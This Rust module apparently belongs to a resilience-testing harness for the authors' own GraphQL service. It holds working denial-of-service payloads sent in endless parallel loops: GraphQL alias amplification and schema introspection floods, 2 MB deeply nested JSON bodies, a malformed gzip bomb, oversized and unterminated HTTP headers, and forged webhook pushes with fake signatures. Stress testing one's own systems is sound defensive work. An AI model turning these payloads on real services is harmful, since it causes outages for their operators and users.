//! Those who send much, or ask for much.

use std::{fmt::Write, time::Duration};

use futures_util::FutureExt;
use serde_json::json;
use tokio::time::sleep;

use super::{
    Attack, Force,
    slow::attack,
    swarm::{Tally, swarm},
    target::{Target, answer, connect, send},
};

pub(super) const ALL: &[Attack] = &[
    attack!("raw 95 times of 500 people", |t, f, y| asks(
        t,
        f,
        y,
        aliases("users(first:500){nodes{", 95, "raw", "}}")
    )),
    attack!("messages' content 95 times", |t, f, y| asks(
        t,
        f,
        y,
        aliases("messages(first:500){nodes{", 95, "content", "}}")
    )),
    attack!("messages 60 times", |t, f, y| asks(
        t,
        f,
        y,
        aliases("", 60, "messages(first:500){nodes{content}}", "")
    )),
    attack!("exportIdentityLinks 99 times", |t, f, y| asks(
        t,
        f,
        y,
        aliases("", 99, "exportIdentityLinks", "")
    )),
    attack!("the schema 40 times, without a token", |t, f, y| posts(
        t,
        f,
        y,
        false,
        json!({ "query": aliases("", 40, "__schema{types{name fields{name}}}", "") }).to_string(),
        ""
    )),
    attack!("2 MB of deep extensions", |t, f, y| posts(
        t,
        f,
        y,
        false,
        many("extensions", "[[[[0]]]]"),
        ""
    )),
    attack!("2 MB of small extensions", |t, f, y| posts(
        t,
        f,
        y,
        false,
        many("extensions", "0"),
        ""
    )),
    attack!("2 MB of deep variables", |t, f, y| posts(
        t,
        f,
        y,
        true,
        many("variables", "[[[[0]]]]"),
        ""
    )),
    attack!("2 MB of other parameters", |t, f, y| posts(
        t,
        f,
        y,
        true,
        many("other", "{\"a\":[{}]}"),
        ""
    )),
    attack!("2 MB, one level in another", |t, f, y| posts(
        t,
        f,
        y,
        false,
        format!("{{\"query\":{}", "[".repeat(2_000_000)),
        ""
    )),
    attack!("2 MB of text in the variables", |t, f, y| posts(
        t,
        f,
        y,
        true,
        json!({ "query": "query($a:String){mirror{revision}}", "variables": { "a": "x".repeat(2_000_000) } })
            .to_string(),
        ""
    )),
    attack!("a gzip bomb", |t, f, y| posts(
        t,
        f,
        y,
        false,
        "\x1f\x08\x08".repeat(300_000),
        "Content-Encoding: gzip\r\n"
    )),
    attack!("heads of 60 kB", |t, f, y| writes(
        t,
        f,
        y,
        format!(
            "GET /livez HTTP/1.1\r\nHost: x\r\n{}\r\n",
            "A: bbbbbbbbbbbbbbbb\r\n".repeat(3_000)
        )
    )),
    attack!("heads without end", |t, f, y| writes(
        t,
        f,
        y,
        format!("GET / HTTP/1.1\r\nA: {}", "x".repeat(4_000_000))
    )),
    attack!("addresses of 60 kB", |t, f, y| writes(
        t,
        f,
        y,
        format!("GET /graphql?query={} HTTP/1.1\r\nHost: x\r\n\r\n", "a".repeat(60_000))
    )),
    attack!("forged pushes, many", |t, f, y| pushes(t, f, y, 200)),
    attack!("forged pushes, large", |t, f, y| pushes(t, f, y, 240_000)),
    attack!("pushes of 10 MB", |t, f, y| pushes(t, f, y, 10_000_000)),
];

pub(super) fn aliases(before: &str, count: usize, field: &str, after: &str) -> String {
    let mut query = format!("{{{before}");
    for number in 0..count {
        let _ = write!(query, "a{number}:{field} ");
    }
    query + after + "}"
}

fn many(parameter: &str, one: &str) -> String {
    let list = vec![one; 2_000_000 / (one.len() + 1)].join(",");
    format!("{{\"query\":\"{{mirror{{revision}}}}\",\"{parameter}\":{{\"v\":[{list}]}}}}")
}

/// The query, again and again, with a token; answers are read.
async fn asks(target: &Target, force: Force, tally: Tally, query: String) {
    posts(target, force, tally, true, json!({ "query": query }).to_string(), "").await;
}

pub(super) async fn posts(target: &Target, force: Force, tally: Tally, known: bool, body: String, headers: &str) {
    let token = if known {
        format!("Authorization: Bearer {}\r\n", target.token)
    } else {
        String::new()
    };
    let head = format!(
        "POST /graphql HTTP/1.1\r\nHost: x\r\nConnection: close\r\n{token}{headers}Content-Type: application/json\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    writes(target, force, tally, head + &body).await;
}

async fn pushes(target: &Target, force: Force, tally: Tally, bytes: usize) {
    let body = json!({ "encrypt": "x".repeat(bytes) }).to_string();
    let head = format!(
        "POST /dingtalk/events?signature=a&timestamp=1&nonce=b HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    writes(target, force, tally, head + &body).await;
}

/// Each on a new connection, again and again.
pub(super) async fn writes(target: &Target, force: Force, tally: Tally, request: String) {
    let (address, request) = (target.address, bytes::Bytes::from(request));
    swarm(force.few, |_| {
        let (request, tally) = (request.clone(), tally.clone());
        async move {
            loop {
                let Some(mut stream) = connect(address).await else {
                    tally.add("no connection");
                    continue;
                };
                send(&mut stream, &request).await;
                tally.add(answer(&mut stream).await);
                super::target::closed(&mut stream).await;
                sleep(Duration::from_millis(5)).await;
            }
        }
    })
    .await;
}
